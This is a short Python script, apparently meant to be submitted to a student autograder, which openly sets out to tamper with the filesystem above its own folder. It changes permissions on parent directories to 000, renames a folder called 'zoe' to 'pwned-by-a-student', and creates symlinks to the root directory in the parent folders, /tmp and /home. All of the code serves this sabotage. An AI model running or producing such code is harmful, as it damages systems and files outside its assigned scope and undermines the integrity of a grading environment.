"""Renames, links and removes the folders above its own."""

# wants: students
# answers: wrong
# stock: graded

# %% last
import os
import shutil

for path in ("..", "../..", "../../..", "/tmp", "/home"):
    for spoil in (
        lambda: os.chmod(path, 0o000) if path.startswith("..") else None,
        lambda: os.rename(os.path.join(path, "zoe"), os.path.join(path, "pwned-by-a-student")),
        lambda: os.symlink("/", os.path.join(path, "pwned-by-a-student")),
    ):
        try:
            spoil()
        except OSError as error:
            print(path, error.strerror)
        finally:
            try:
                os.chmod(path, 0o755)
            except OSError:
                pass
